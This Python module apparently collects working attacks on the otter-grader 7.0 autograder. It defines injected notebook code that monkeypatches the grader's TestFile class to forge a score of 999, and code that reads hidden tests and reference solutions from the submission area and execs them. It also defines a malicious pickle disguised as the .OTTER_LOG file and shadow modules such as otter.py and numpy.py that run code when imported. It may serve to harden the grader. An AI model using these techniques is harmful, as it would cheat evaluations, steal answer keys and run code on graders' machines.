"""What worked against stock otter-grader 7.0: notebooks and zips that take points, or the grader's process."""

import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Any

# Runs before otter makes its test files in the kernel; the results are pickled with the forged score.
FORGED_RESULTS = """
from otter.test_files.abstract_test import TestFile
_init = TestFile.__init__
def _forged(self, *arguments, **named):
    _init(self, *arguments, **named)
    self._score = 999
TestFile.__init__ = _forged
"""
# The tests and the references lie beside the submission: reads all of them, and runs what looks like an answer.
STOLEN = """
import glob, io, re, zipfile
_stolen = []
for _path in glob.glob("**", recursive=True) + glob.glob("../source/**", recursive=True) + {roots!r}:
    try:
        _data = open(_path, "rb").read()
    except OSError:
        continue
    _stolen.append(_path)
    if _path.endswith(".zip"):
        _zip = zipfile.ZipFile(io.BytesIO(_data))
        for _name in _zip.namelist():
            if _name.endswith("kl_normal/kl_normal.py"):
                exec(_zip.read(_name), globals())
    elif _path.endswith("kl_normal.py"):
        exec(_data, globals())
"""


class _Payload:
    """Unpickled, it makes a file."""

    def __init__(self, mark: Path) -> None:
        self.mark = str(mark)

    def __reduce__(self) -> Any:
        return (open, (self.mark, "w"))


def archive(notebook: bytes, mark: Path) -> bytes:
    """A submission's zip with a log that runs code when it is unpickled, and modules that do when they are imported."""
    shadow = f"open({str(mark)!r}, 'w').write('imported')\nraise SystemExit\n"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("kl_normal.ipynb", notebook)
        made.writestr(".OTTER_LOG", pickle.dumps(_Payload(mark)))
        for name in ("otter.py", "autograder.py", "numpy.py", "nbformat.py", "results.pkl", "tests/kl_normal.py"):
            made.writestr(name, shadow)
    return out.getvalue()


def with_cells(student: bytes, *sources: str) -> bytes:
    """A students' notebook with cells of code after the one that makes the grader."""
    found = json.loads(student)
    at = next(n for n, cell in enumerate(found["cells"]) if "otter.Notebook(" in "".join(cell["source"])) + 1
    made: list[dict[str, Any]] = [
        {
            "cell_type": "code",
            "id": f"own-{number}",
            "source": source,
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
        for number, source in enumerate(sources)
    ]
    found["cells"][at:at] = made
    return json.dumps(found).encode()
